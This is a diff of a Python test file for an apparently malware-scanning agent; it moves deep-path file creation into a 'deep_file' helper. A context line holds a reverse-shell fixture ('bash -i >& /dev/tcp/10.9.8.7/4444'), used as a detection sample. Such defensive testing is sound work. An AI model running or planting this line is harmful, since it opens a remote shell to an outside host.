@@ -6,7 +6,7 @@ import stat
 import time
 
 import records_schema as R
-from conftest import EICAR, Agent, finished_scan, scan, wait_for, write
+from conftest import EICAR, Agent, deep_file, finished_scan, scan, wait_for, write
 
 # A reverse shell, assembled at run time so that this file does not hold one.
 REVERSE_SHELL = b"#!/bin/sh\nbash -i >& " + b"/dev/" + b"tcp/10.9.8.7/4444 0>&1\n"
@@ -154,28 +154,12 @@ class TestScanReach:
 
     def test_path_longer_than_path_max_is_scanned_and_quarantined(self, agent):
         agent.data("settings.set", values={"realtime_enabled": False})
-        fd = os.open(agent.downloads, os.O_RDONLY | os.O_DIRECTORY)
-        parts = []
-        try:
-            for i in range(24):  # 24 x 201 bytes: beyond the 4096 bytes of PATH_MAX
-                name = f"{i:02d}" + "d" * 199
-                os.mkdir(name, dir_fd=fd)
-                parts.append(name)
-                nfd = os.open(name, os.O_RDONLY | os.O_DIRECTORY, dir_fd=fd)
-                os.close(fd)
-                fd = nfd
-            out = os.open("deep.com", os.O_WRONLY | os.O_CREAT, 0o600, dir_fd=fd)
-            os.write(out, EICAR)
-            os.close(out)
-        finally:
-            os.close(fd)
-        target = os.path.join(agent.downloads, *parts, "deep.com")
-        assert len(target) > 4096
+        target = deep_file(agent.downloads, EICAR)
         done = scan(agent)
         assert done["outcome"] == "finished" and done["unreadable"] == 0
         [entry] = agent.data("quarantine.list")
         assert entry["original_path"] == target
-        shutil.rmtree(os.path.join(agent.downloads, parts[0]))
+        shutil.rmtree(os.path.join(agent.downloads, "00" + "d" * 199))
 
     def test_unreadable_files_are_counted_and_reported_and_nothing_readable_means_failed(self, home):
         agent = Agent(home, prefix=NO_DAC)
